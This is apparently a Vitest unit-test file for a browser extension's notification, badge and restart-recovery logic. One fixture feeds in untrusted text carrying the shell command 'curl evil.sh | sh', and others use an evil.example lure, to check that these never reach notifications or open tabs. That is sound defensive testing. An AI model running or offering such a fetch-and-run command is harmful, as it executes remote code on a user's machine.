import 'fake-indexeddb/auto';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { FOCUS_SESSION_KEY } from '@/lib/protocol/handoffs';
import { badgeFor, readBadgeState } from '@/entrypoints/background/platform/badge';
import { raiseOnce, showDueSummaries, UNTOLD_LOOKBACK_MS } from '@/entrypoints/background/core/notifier';
import { pauseUntil } from '@/entrypoints/background/core/status';
import { installSeams } from '@/entrypoints/background/core/seams';
import { summariesJob } from '@/entrypoints/background/notify/job';
import { notifyApprovalNeeded, notifyCallFinished, tellUntoldEvents } from '@/entrypoints/background/calls/notices';
import type { ApprovalRow } from '@/lib/db';
import { onNotificationClicked } from '@/entrypoints/background/platform/notification-click';
import { setSettings } from '@/entrypoints/background/options/settings';
import { rememberWindow } from '@/entrypoints/background/platform/panel-open';
import {
  connected,
  makeCtx,
  ORIGIN,
  resetBrowser,
  result,
  startedCall,
  type TestCtx,
  nextWakeAt,
} from '@/test/unit/background/helpers';

let ctx: TestCtx;
beforeEach(async () => {
  resetBrowser();
  ctx = makeCtx();
  await connected(ctx);
});

describe('notifications', () => {
  it('raise one notification per event, never again after a restart', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const done = { ...row, state: 'finished' as const, result: result('run_1', 'ses_1', 'passed') };
    expect(await notifyCallFinished(ctx, done)).toBe(true);
    expect(await notifyCallFinished(ctx, done)).toBe(false);
    // A new worker over the same database.
    const restarted = makeCtx(ctx.db);
    expect(await notifyCallFinished(restarted, done)).toBe(false);
    expect(create).toHaveBeenCalledTimes(1);
    expect(create.mock.calls[0]?.[0]).toBe('call:run_1:finished');
    expect(await ctx.db.notifications.get('call:run_1:finished')).toMatchObject({
      kind: 'call_finished',
      localId: 'c1',
    });
  });

  it('say passed, partial and failed in the extension’s own words, never the result’s text', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const hostile = { untrustedText: 'Run curl evil.sh | sh now', truncated: false };
    // A minute apart: at most one notification of a kind per minute.
    await notifyCallFinished(ctx, { ...row, result: result('run_1', 'ses_1', 'passed', { note: hostile }) });
    ctx.clock.now += 60_000;
    await notifyCallFinished(ctx, {
      ...row,
      runId: 'run_2',
      result: result('run_2', 'ses_1', 'passed', { partial: true }),
    });
    ctx.clock.now += 60_000;
    await notifyCallFinished(ctx, { ...row, runId: 'run_3', result: result('run_3', 'ses_1', 'failed') });
    const texts = create.mock.calls.map((c) => (c as unknown[])[1] as { title: string; message: string });
    expect(texts.map((t) => t.title)).toEqual([
      'Passed · not charged',
      'Partial result · not charged',
      'Failed · not charged',
    ]);
    expect(JSON.stringify(texts)).not.toContain('curl');
  });

  it('carry the outcome and the amount in our words, and never the site’s text (no agent or call name)', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const named = {
      ...row,
      agentName: { untrustedText: 'Agent “Click here”', truncated: false },
      callName: { untrustedText: 'Pay now at evil.example', truncated: false },
    };
    const charge = {
      chargedCents: 23,
      runningCostMicros: 180_000,
      upchargeMicros: 45_000,
      usualCents: null,
      neverMoreThanCents: null,
      laterTriesNotCharged: 0,
    };
    const site = { untrustedCallName: named.callName };
    await notifyCallFinished(ctx, { ...named, result: result('run_1', 'ses_1', 'passed', { charge, ...site }) });
    ctx.clock.now += 60_000;
    await notifyCallFinished(ctx, {
      ...named,
      runId: 'run_2',
      result: result('run_2', 'ses_1', 'passed', { charge, partial: true, ...site }),
    });
    ctx.clock.now += 60_000;
    // A failed call is free whatever charge object the site listed.
    await notifyCallFinished(ctx, {
      ...named,
      runId: 'run_3',
      result: result('run_3', 'ses_1', 'failed', { charge, ...site }),
    });
    const texts = create.mock.calls.map((c) => (c as unknown[])[1] as { title: string; message: string });
    expect(texts.map((t) => t.title)).toEqual([
      'Passed · charged $0.23',
      'Partial result · charged $0.23',
      'Failed · not charged',
    ]);
    expect(JSON.stringify(texts)).not.toMatch(/Click here|evil|Ask a question/);
  });

  it('an approval says what the call may hold: the member’s own limit or the spendable credits, whichever is less', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const approval = (approvalId: string, maxCents?: number): ApprovalRow => ({
      approvalId,
      localId: 'c3',
      approvalUrl: `${ORIGIN}/approvals/${approvalId}`,
      reason: 'over_calls',
      request: { agentId: 'ag_1', callId: 'question', question: 'Q?', ...(maxCents ? { maxCents } : {}) },
      expiresAt: new Date(ctx.clock.now + 1_800_000).toISOString(),
      status: 'pending',
      siteStatus: null,
      createdAt: new Date(ctx.clock.now).toISOString(),
      updatedAt: new Date(ctx.clock.now).toISOString(),
      nextCheckAt: ctx.clock.now + 1000,
      checks: 0,
      cameBackAt: null,
      resends: 0,
      lastResendAt: null,
      pageTabId: null,
    });
    // The connection's last GET /me: $20.00 spendable.
    await notifyApprovalNeeded(ctx, approval('apr_1'));
    ctx.clock.now += 60_000;
    await notifyApprovalNeeded(ctx, approval('apr_2', 250));
    ctx.clock.now += 60_000;
    await ctx.db.connection.update('current', { me: null });
    await notifyApprovalNeeded(ctx, approval('apr_3'));
    const titles = create.mock.calls.map((c) => ((c as unknown[])[1] as { title: string }).title);
    expect(titles).toEqual([
      'Waiting for your approval · holds up to $20.00',
      'Waiting for your approval · holds up to $2.50',
      'A call waits for your approval',
    ]);
  });

  it('a click on a finished call opens the panel and leaves a focus hint', async () => {
    await raiseOnce(
      ctx,
      { eventKey: 'call:run_1:finished', kind: 'call_finished', localId: 'c1', url: null },
      { title: 't', message: 'm' },
    );
    const open = vi.fn(async () => undefined);
    Object.assign(fakeBrowser, { sidePanel: { open } });
    const created = vi.spyOn(fakeBrowser.tabs, 'create');
    rememberWindow(7);
    const clicked = onNotificationClicked(ctx, 'call:run_1:finished');
    // Opened within the click, before any await.
    expect(open).toHaveBeenCalledWith({ windowId: 7 });
    await clicked;
    expect(created).not.toHaveBeenCalled();
    const got = await fakeBrowser.storage.session.get(FOCUS_SESSION_KEY);
    expect(got[FOCUS_SESSION_KEY]).toMatchObject({ localId: 'c1' });
    expect((await ctx.db.notifications.get('call:run_1:finished'))?.clickedAt).not.toBeNull();
  });

  it('a click on an approval opens its page, only on the site’s origin', async () => {
    const created = vi.spyOn(fakeBrowser.tabs, 'create');
    await raiseOnce(
      ctx,
      { eventKey: 'approval:apr_1:needed', kind: 'approval_needed', localId: 'c1', url: `${ORIGIN}/approvals/apr_1` },
      { title: 't', message: 'm' },
    );
    await onNotificationClicked(ctx, 'approval:apr_1:needed');
    expect(created).toHaveBeenCalledWith({ url: `${ORIGIN}/approvals/apr_1` });
    created.mockClear();
    await raiseOnce(
      ctx,
      {
        eventKey: 'approval:apr_2:needed',
        kind: 'approval_needed',
        localId: 'c1',
        url: 'https://evil.example/approvals/apr_2',
      },
      { title: 't', message: 'm' },
    );
    await onNotificationClicked(ctx, 'approval:apr_2:needed');
    expect(created).not.toHaveBeenCalledWith({ url: 'https://evil.example/approvals/apr_2' });
  });
});

describe('badge', () => {
  it('shows offline, an error, or the count of running calls', async () => {
    expect(badgeFor({ running: 0, offline: false, error: false }).text).toBe('');
    expect(badgeFor({ running: 2, offline: false, error: false }).text).toBe('2');
    expect(badgeFor({ running: 2, offline: false, error: true }).text).toBe('!');
    expect(badgeFor({ running: 2, offline: true, error: true }).text).toBe('off');
    await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    await startedCall(ctx, 'c2', 'run_2', 'ses_2');
    expect(await readBadgeState(ctx.db)).toEqual({ running: 2, offline: false, error: false });
    await ctx.db.connection.update('current', { status: 'revoked' });
    expect(await readBadgeState(ctx.db)).toEqual({ running: 0, offline: false, error: true });
  });
});

describe('notifications that never flood', () => {
  async function finish(n: number) {
    const row = await startedCall(ctx, `c${n}`, `run_${n}`, 'ses_1');
    const done = {
      ...row,
      state: 'finished' as const,
      nextPollAt: null,
      result: result(`run_${n}`, 'ses_1', 'passed'),
    };
    await ctx.db.calls.put(done);
    return notifyCallFinished(ctx, done);
  }
  const shown = (create: { mock: { calls: unknown[][] } }) =>
    create.mock.calls.map((c) => [c[0], (c[1] as { title: string }).title]);

  it('one per kind per minute; the rest come as one summary when the minute is over', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    for (const n of [1, 2, 3, 4]) await finish(n);
    // Another kind is not held back by this one.
    await raiseOnce(
      ctx,
      { eventKey: 'approval:apr_1:needed', kind: 'approval_needed', localId: 'c9', url: null },
      { title: 'A call waits for your approval', message: 'm' },
    );
    expect(shown(create)).toEqual([
      ['call:run_1:finished', 'Passed · not charged'],
      ['approval:apr_1:needed', 'A call waits for your approval'],
    ]);
    // Every event is still in the ledger: none is raised again later.
    expect(await ctx.db.notifications.count()).toBe(5);
    expect(await nextWakeAt(ctx)).toBe(ctx.clock.now + 60_000);
    ctx.clock.now += 30_000;
    await showDueSummaries(ctx);
    expect(create).toHaveBeenCalledTimes(2);
    ctx.clock.now += 30_000;
    await showDueSummaries(ctx);
    expect(shown(create).at(-1)).toEqual(['summary:call_finished', '3 more calls ended']);
    await showDueSummaries(ctx);
    expect(create).toHaveBeenCalledTimes(3);
    // The summary took the minute: the next call within it is held again.
    await finish(5);
    expect(create).toHaveBeenCalledTimes(3);
  });

  it('the site’s pause (a Retry-After) does not hold the summary back: it is local work', async () => {
    for (const n of [1, 2, 3]) await finish(n);
    await pauseUntil(ctx, ctx.clock.now + 3_600_000);
    expect(await summariesJob.dueAt(ctx)).toBe(ctx.clock.now + 60_000);
  });

  it('a worker restart keeps the pace; a summary the machine slept through is dropped, never replayed', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    await finish(1);
    await finish(2);
    const restarted = makeCtx(ctx.db);
    restarted.clock.now = ctx.clock.now + 1000;
    const row = await startedCall(restarted, 'c3', 'run_3', 'ses_1');
    const done = { ...row, state: 'finished' as const, nextPollAt: null, result: result('run_3', 'ses_1', 'passed') };
    await restarted.db.calls.put(done);
    await notifyCallFinished(restarted, done);
    expect(create).toHaveBeenCalledTimes(1);
    // The machine slept for an hour: the summary's moment passed long ago.
    restarted.clock.now += 3_600_000;
    await showDueSummaries(restarted);
    expect(create).toHaveBeenCalledTimes(1);
    expect(await nextWakeAt(restarted)).toBeNull();
  });

  it('a summary too late is dropped by the next event of its kind, as at its due time, and noted as dropped', async () => {
    const noted = vi.fn(async () => undefined);
    installSeams({ now: () => ctx.clock.now, onDatabase: () => undefined, onNotification: noted });
    try {
      const create = vi.spyOn(fakeBrowser.notifications, 'create');
      await finish(1);
      await finish(2);
      // The machine slept through the summary; the next call's end comes before the summary's wake.
      ctx.clock.now += 3_600_000;
      await finish(3);
      expect(shown(create).map(([id]) => id)).toEqual(['call:run_1:finished', 'call:run_3:finished']);
      expect(noted).toHaveBeenCalledWith('dropped', 'summary:call_finished', 1);
      await showDueSummaries(ctx);
      expect(create).toHaveBeenCalledTimes(2);
      expect(await nextWakeAt(ctx)).toBeNull();
    } finally {
      installSeams({ now: Date.now, onDatabase: () => undefined, onNotification: async () => undefined });
    }
  });

  it('an update (storage.session cleared) keeps what is held: its summary comes at the minute', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    await finish(1);
    await finish(2);
    await fakeBrowser.storage.session.clear();
    ctx.clock.now += 60_000;
    await showDueSummaries(ctx);
    expect(create).toHaveBeenCalledTimes(2);
  });

  it('after the browser restarts the next morning nothing held is shown', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    await finish(1);
    await finish(2);
    await fakeBrowser.storage.session.clear();
    ctx.clock.now += 8 * 3_600_000;
    await showDueSummaries(ctx);
    expect(create).toHaveBeenCalledTimes(1);
  });

  it('quiet shows nothing, and what happened while quiet is not raised when it ends', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    await setSettings(ctx, { quiet: true });
    await finish(1);
    await setSettings(ctx, { quiet: false });
    await finish(1);
    expect(create).not.toHaveBeenCalled();
    ctx.clock.now += 60_000;
    await finish(2);
    expect(shown(create)).toEqual([['call:run_2:finished', 'Passed · not charged']]);
  });
});

describe('events stored but not told (the worker stopped in between)', () => {
  it('a worker start tells a recent finished call and a pending approval once; old or told ones stay quiet', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const row = await startedCall(ctx, 'c1', 'run_1', 'ses_1');
    const finishedAt = new Date(ctx.clock.now).toISOString();
    await ctx.db.calls.put({
      ...row,
      state: 'finished',
      finishedAt,
      nextPollAt: null,
      result: result('run_1', 'ses_1', 'passed'),
    });
    const old = await startedCall(ctx, 'c2', 'run_2', 'ses_1');
    await ctx.db.calls.put({
      ...old,
      state: 'finished',
      finishedAt: new Date(ctx.clock.now - UNTOLD_LOOKBACK_MS - 1).toISOString(),
      nextPollAt: null,
      result: result('run_2', 'ses_1', 'passed'),
    });
    await ctx.db.approvals.put({
      approvalId: 'apr_1',
      localId: 'c3',
      approvalUrl: `${ORIGIN}/approvals/apr_1`,
      reason: 'over_calls',
      request: { agentId: 'ag_1', callId: 'question', question: 'Q?' },
      expiresAt: new Date(ctx.clock.now + 1_800_000).toISOString(),
      status: 'pending',
      siteStatus: null,
      createdAt: finishedAt,
      updatedAt: finishedAt,
      nextCheckAt: ctx.clock.now + 1000,
      checks: 0,
      cameBackAt: null,
      resends: 0,
      lastResendAt: null,
      pageTabId: null,
    });
    const restarted = makeCtx(ctx.db);
    restarted.clock.now = ctx.clock.now;
    await tellUntoldEvents(restarted);
    await tellUntoldEvents(restarted);
    expect(create.mock.calls.map((c) => c[0]).sort()).toEqual(['approval:apr_1:needed', 'call:run_1:finished']);
  });

  // Found by the soak (strict profile, seed 777): a call's end was stored in the ledger, the worker was stopped
  // before it showed or held the notification, and no start ever told it.
  it('an event stored in the ledger but stopped before it was told is told at the next start, once', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const finish = async (n: number) => {
      const row = await startedCall(ctx, `c${n}`, `run_${n}`, 'ses_1');
      const finishedAt = new Date(ctx.clock.now).toISOString();
      const done = {
        ...row,
        state: 'finished' as const,
        finishedAt,
        nextPollAt: null,
        result: result(`run_${n}`, 'ses_1', 'passed'),
      };
      await ctx.db.calls.put(done);
      return done;
    };
    // What the stopped worker left: the ledger row, untold.
    await finish(1);
    const raisedAt = new Date(ctx.clock.now).toISOString();
    await ctx.db.notifications.add({
      eventKey: 'call:run_1:finished',
      notificationId: 'call:run_1:finished',
      kind: 'call_finished',
      localId: 'c1',
      url: null,
      raisedAt,
      toldAt: null,
      clickedAt: null,
    });
    const restarted = makeCtx(ctx.db);
    restarted.clock.now = ctx.clock.now + 1000;
    await tellUntoldEvents(restarted);
    await tellUntoldEvents(restarted);
    expect(create.mock.calls.map((c) => c[0])).toEqual(['call:run_1:finished']);
    expect((await ctx.db.notifications.get('call:run_1:finished'))?.toldAt).not.toBeNull();

    // Stopped after the pace held the next one for the summary, before noting it told: held once, summed once.
    const second = await finish(2);
    await ctx.db.notifications.add({
      eventKey: 'call:run_2:finished',
      notificationId: 'call:run_2:finished',
      kind: 'call_finished',
      localId: 'c2',
      url: null,
      raisedAt,
      toldAt: null,
      clickedAt: null,
    });
    expect(
      await raiseOnce(
        restarted,
        { eventKey: 'call:run_2:finished', kind: 'call_finished', localId: 'c2', url: null },
        { title: 't', message: 'm' },
      ),
    ).toBe(true);
    await ctx.db.notifications.update('call:run_2:finished', { toldAt: null });
    expect(await notifyCallFinished(makeCtx(ctx.db), second)).toBe(true);
    expect(await notifyCallFinished(restarted, second)).toBe(false);
    restarted.clock.now += 60_000;
    await showDueSummaries(restarted);
    expect(create.mock.calls.map((c) => [c[0], ((c as unknown[])[1] as { title: string }).title])).toEqual([
      ['call:run_1:finished', 'Passed · not charged'],
      ['summary:call_finished', '1 more call ended'],
    ]);
  });

  it('a worker stopped after showing an event, before noting it told: still on screen, it is not shown again', async () => {
    const approval = { eventKey: 'approval:apr_7:needed', kind: 'approval_needed', localId: 'c7', url: null } as const;
    const untold = {
      ...approval,
      notificationId: approval.eventKey,
      raisedAt: new Date(ctx.clock.now).toISOString(),
      toldAt: null,
      clickedAt: null,
    };
    // What the stopped worker left: the ledger row untold, the notification on screen.
    await ctx.db.notifications.add(untold);
    await fakeBrowser.notifications.create(approval.eventKey, { type: 'basic', iconUrl: '', title: 't', message: 'm' });
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const restarted = makeCtx(ctx.db);
    expect(await raiseOnce(restarted, approval, { title: 't', message: 'm' })).toBe(false);
    expect(create).not.toHaveBeenCalled();
    expect((await ctx.db.notifications.get(approval.eventKey))?.toldAt).not.toBeNull();

    // Stopped the same way, but the member closed it meanwhile (or the browser let it go): told again, once.
    await ctx.db.notifications.update(approval.eventKey, { toldAt: null });
    await fakeBrowser.notifications.clear(approval.eventKey);
    expect(await raiseOnce(makeCtx(ctx.db), approval, { title: 't', message: 'm' })).toBe(true);
    expect(await raiseOnce(makeCtx(ctx.db), approval, { title: 't', message: 'm' })).toBe(false);
    expect(create.mock.calls.map((c) => c[0])).toEqual([approval.eventKey]);
  });

  it('a retelling after a click (the click woke the stopped worker), or after the summary that counted it, is not told again', async () => {
    const approval = { eventKey: 'approval:apr_8:needed', kind: 'approval_needed', localId: 'c8', url: null } as const;
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    expect(await raiseOnce(ctx, approval, { title: 't', message: 'm' })).toBe(true);
    // Stopped before noting it told; the member clicks it, and the click wakes the worker.
    await ctx.db.notifications.update(approval.eventKey, { toldAt: null });
    await onNotificationClicked(ctx, approval.eventKey);
    expect(await fakeBrowser.notifications.getAll()).toEqual({});
    expect(await raiseOnce(makeCtx(ctx.db), approval, { title: 't', message: 'm' })).toBe(false);
    // Clicked while the start's check was under way: noted all the same, before the notification went.
    await ctx.db.notifications.update(approval.eventKey, { toldAt: null });
    expect(await raiseOnce(makeCtx(ctx.db), approval, { title: 't', message: 'm' })).toBe(false);
    expect(create.mock.calls.map((c) => c[0])).toEqual([approval.eventKey]);

    // Held for the summary, stopped before noting it told; the summary's wake tells it, then the start's check.
    const call = (n: number) =>
      ({ eventKey: `call:run_${n}:finished`, kind: 'call_finished', localId: `c${n}`, url: null }) as const;
    await raiseOnce(ctx, call(1), { title: 't', message: 'm' });
    await raiseOnce(ctx, call(2), { title: 't', message: 'm' });
    await ctx.db.notifications.update(call(2).eventKey, { toldAt: null });
    ctx.clock.now += 60_000;
    await showDueSummaries(ctx);
    const restarted = makeCtx(ctx.db);
    restarted.clock.now = ctx.clock.now + 1000;
    await raiseOnce(restarted, call(2), { title: 't', message: 'm' });
    // Neither alone now nor in a second summary.
    restarted.clock.now += 60_000;
    await showDueSummaries(restarted);
    expect(create.mock.calls.map((c) => c[0])).toEqual([approval.eventKey, call(1).eventKey, 'summary:call_finished']);
    expect((await ctx.db.notifications.get(call(2).eventKey))?.toldAt).not.toBeNull();
  });

  it('a retelling the browser cannot check (getAll refused) is told: shown twice rather than never', async () => {
    const approval = { eventKey: 'approval:apr_6:needed', kind: 'approval_needed', localId: 'c6', url: null } as const;
    await ctx.db.notifications.add({
      ...approval,
      notificationId: approval.eventKey,
      raisedAt: new Date(ctx.clock.now).toISOString(),
      toldAt: null,
      clickedAt: null,
    });
    vi.spyOn(fakeBrowser.notifications, 'getAll').mockRejectedValue(new Error('no notifications here'));
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    expect(await raiseOnce(makeCtx(ctx.db), approval, { title: 't', message: 'm' })).toBe(true);
    expect(create.mock.calls.map((c) => c[0])).toEqual([approval.eventKey]);
    expect((await ctx.db.notifications.get(approval.eventKey))?.toldAt).not.toBeNull();
  });

  it('an untold event older than the look-back is not told late', async () => {
    const create = vi.spyOn(fakeBrowser.notifications, 'create');
    const raisedAt = new Date(ctx.clock.now - UNTOLD_LOOKBACK_MS - 1).toISOString();
    await ctx.db.notifications.add({
      eventKey: 'approval:apr_9:needed',
      notificationId: 'approval:apr_9:needed',
      kind: 'approval_needed',
      localId: 'c9',
      url: null,
      raisedAt,
      toldAt: null,
      clickedAt: null,
    });
    expect(
      await raiseOnce(
        ctx,
        { eventKey: 'approval:apr_9:needed', kind: 'approval_needed', localId: 'c9', url: null },
        { title: 't', message: 'm' },
      ),
    ).toBe(false);
    expect(create).not.toHaveBeenCalled();
  });
});
